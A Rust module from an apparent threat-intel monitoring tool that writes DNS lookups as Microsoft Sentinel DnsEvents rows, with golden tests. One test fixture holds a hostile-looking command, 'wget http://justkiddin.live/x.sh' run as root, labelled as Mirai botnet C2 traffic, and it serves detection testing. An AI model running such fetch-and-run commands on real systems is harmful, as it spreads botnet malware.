//! `DnsEvents` rows (Sentinel's legacy DNS table: the columns its threat-intel rules and
//! the advisory's hunting query read). iocmon is the querying client here, so
//! `Computer` is this device and `ClientIP` the address the query left from; the
//! process that asked and the matched indicator go in `AdditionalFields`.
//!
//! The DNS issue produces the events; this module is the writer: [`DnsQuery`] in,
//! [`DnsEvent`] (serialise with serde_json) out.

use std::net::IpAddr;

use serde::Serialize;

use super::{
    device_network::{Detection, ProcessContext},
    provenance::Provenance,
};
use crate::{clock::format_timestamp, ioc::ParsedIndicator};

pub const TABLE: &str = "DnsEvents";

/// Client lookups: the only subtype Sentinel's threat-intel matching reads.
pub const SUBTYPE_LOOKUP_QUERY: &str = "LookupQuery";

/// One observed lookup and its answer.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct DnsQuery {
    pub unix_ns: i128,
    /// The queried name, as asked (no trailing dot).
    pub name: String,
    /// Numeric QTYPE (1 = A, 28 = AAAA, ...).
    pub query_type: u16,
    /// Address answers, in answer order.
    pub answers: Vec<IpAddr>,
    /// DNS RCODE (0 NOERROR, 3 NXDOMAIN, ...).
    pub result_code: u16,
    /// The address the query was sent from.
    pub client_ip: Option<IpAddr>,
    /// The resolver it was sent to.
    pub server_ip: Option<IpAddr>,
}

#[allow(non_snake_case)]
#[derive(Debug, Serialize)]
pub struct DnsEvent<'a> {
    pub Table: &'static str,
    pub TimeGenerated: String,
    pub Computer: &'a str,
    pub Name: &'a str,
    /// Answers joined by `", "` (what `split(IPAddresses, ", ")` expects).
    pub IPAddresses: String,
    /// Record type name (`A`, `AAAA`, ...), or the number for types without one here.
    pub QueryType: String,
    pub ClientIP: Option<String>,
    pub SubType: &'static str,
    pub ResultCode: u16,
    /// Windows DNS analytical event id: 257 for a successful response, 258 otherwise.
    pub EventId: u16,
    pub AdditionalFields: DnsAdditionalFields<'a>,
}

#[allow(non_snake_case)]
#[derive(Debug, Serialize)]
pub struct DnsAdditionalFields<'a> {
    pub DetectionClass: &'static str,
    pub DetectionClasses: &'a [&'static str],
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ServerIP: Option<String>,
    pub InitiatingProcessId: u32,
    pub InitiatingProcessFileName: &'a str,
    pub InitiatingProcessFolderPath: Option<&'a str>,
    pub InitiatingProcessCommandLine: Option<&'a str>,
    pub InitiatingProcessAccountName: Option<&'a str>,
    pub InitiatingProcessParentFileName: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub ContainerId: Option<&'a str>,
    /// The matched indicator and its threat-intel metadata, flattened in (as in
    /// `DeviceNetworkEvents`).
    #[serde(flatten, skip_serializing_if = "Option::is_none")]
    pub Provenance: Option<Provenance>,
}

/// QTYPE number to the name DnsEvents uses.
pub fn query_type_name(qtype: u16) -> String {
    let name = match qtype {
        1 => "A",
        2 => "NS",
        5 => "CNAME",
        6 => "SOA",
        12 => "PTR",
        15 => "MX",
        16 => "TXT",
        28 => "AAAA",
        33 => "SRV",
        35 => "NAPTR",
        64 => "SVCB",
        65 => "HTTPS",
        255 => "ANY",
        other => return other.to_string(),
    };
    name.to_string()
}

/// Builds the row. `computer` is this device's name; `pid` the process that asked.
pub fn build<'a>(
    query: &'a DnsQuery,
    computer: &'a str,
    pid: u32,
    process: &'a ProcessContext,
    detection: &'a Detection,
    indicator: Option<&ParsedIndicator>,
) -> DnsEvent<'a> {
    let answers: Vec<String> = query.answers.iter().map(IpAddr::to_string).collect();
    DnsEvent {
        Table: TABLE,
        TimeGenerated: format_timestamp(query.unix_ns),
        Computer: computer,
        Name: &query.name,
        IPAddresses: answers.join(", "),
        QueryType: query_type_name(query.query_type),
        ClientIP: query.client_ip.map(|ip| ip.to_string()),
        SubType: SUBTYPE_LOOKUP_QUERY,
        ResultCode: query.result_code,
        EventId: if query.result_code == 0 { 257 } else { 258 },
        AdditionalFields: DnsAdditionalFields {
            DetectionClass: detection.class,
            DetectionClasses: &detection.classes,
            ServerIP: query.server_ip.map(|ip| ip.to_string()),
            InitiatingProcessId: pid,
            InitiatingProcessFileName: &process.file_name,
            InitiatingProcessFolderPath: process.folder_path.as_deref(),
            InitiatingProcessCommandLine: process.command_line.as_deref(),
            InitiatingProcessAccountName: process.account_name.as_deref(),
            InitiatingProcessParentFileName: process.parent_file_name.as_deref(),
            ContainerId: process.container_id.as_deref(),
            Provenance: indicator.map(Provenance::of),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::{IndicatorMeta, IocValue, Location};

    #[test]
    fn golden_dns_row() {
        let query = DnsQuery {
            unix_ns: 1_782_043_200_123_456_789,
            name: "justkiddin.live".into(),
            query_type: 1,
            answers: vec!["127.0.0.2".parse().unwrap(), "127.0.0.3".parse().unwrap()],
            result_code: 0,
            client_ip: Some("127.0.0.1".parse().unwrap()),
            server_ip: Some("127.0.0.53".parse().unwrap()),
        };
        let process = ProcessContext {
            file_name: "wget".into(),
            folder_path: Some("/usr/bin/wget".into()),
            command_line: Some("wget http://justkiddin.live/x.sh".into()),
            account_name: Some("root".into()),
            parent_file_name: Some("sh".into()),
            ..ProcessContext::default()
        };
        let detection = Detection {
            class: "ioc",
            classes: vec!["ioc", "network-tool"],
            ..Detection::default()
        };
        let value = IocValue::Domain("justkiddin.live".into());
        let mut meta = IndicatorMeta::new(&value, "seed-threatfox-mirai.txt", Location::Line(9));
        meta.threat_type = Some("botnet_cc".into());
        meta.confidence = Some(100);
        meta.malware = Some(std::sync::Arc::new(crate::ioc::formats::model::Malware {
            id: Some("elf.mirai".into()),
            printable: Some("Mirai".into()),
            aliases: Vec::new(),
        }));
        let indicator = ParsedIndicator { value, meta };
        let row = build(
            &query,
            "iot-box",
            4242,
            &process,
            &detection,
            Some(&indicator),
        );
        assert_eq!(
            serde_json::to_string(&row).unwrap(),
            r#"{"Table":"DnsEvents","TimeGenerated":"2026-06-21T12:00:00.1234567Z","Computer":"iot-box","Name":"justkiddin.live","IPAddresses":"127.0.0.2, 127.0.0.3","QueryType":"A","ClientIP":"127.0.0.1","SubType":"LookupQuery","ResultCode":0,"EventId":257,"AdditionalFields":{"DetectionClass":"ioc","DetectionClasses":["ioc","network-tool"],"ServerIP":"127.0.0.53","InitiatingProcessId":4242,"InitiatingProcessFileName":"wget","InitiatingProcessFolderPath":"/usr/bin/wget","InitiatingProcessCommandLine":"wget http://justkiddin.live/x.sh","InitiatingProcessAccountName":"root","InitiatingProcessParentFileName":"sh","Indicator":"justkiddin.live","IndicatorType":"domain","IndicatorStableId":"ioc:6c86cc28da3cccfe","IndicatorSource":"seed-threatfox-mirai.txt:9","ThreatType":"botnet_cc","Malware":"Mirai","MalwareId":"elf.mirai","Confidence":100}}"#
        );
    }

    #[test]
    fn nxdomain_has_no_addresses_and_numeric_types_stay_numbers() {
        let query = DnsQuery {
            name: "x.invalid".into(),
            query_type: 99,
            result_code: 3,
            ..DnsQuery::default()
        };
        let process = ProcessContext::default();
        let detection = Detection::default();
        let row = build(&query, "h", 1, &process, &detection, None);
        assert_eq!(row.IPAddresses, "");
        assert_eq!(row.QueryType, "99");
        assert_eq!(row.EventId, 258);
        assert_eq!(query_type_name(28), "AAAA");
    }
}
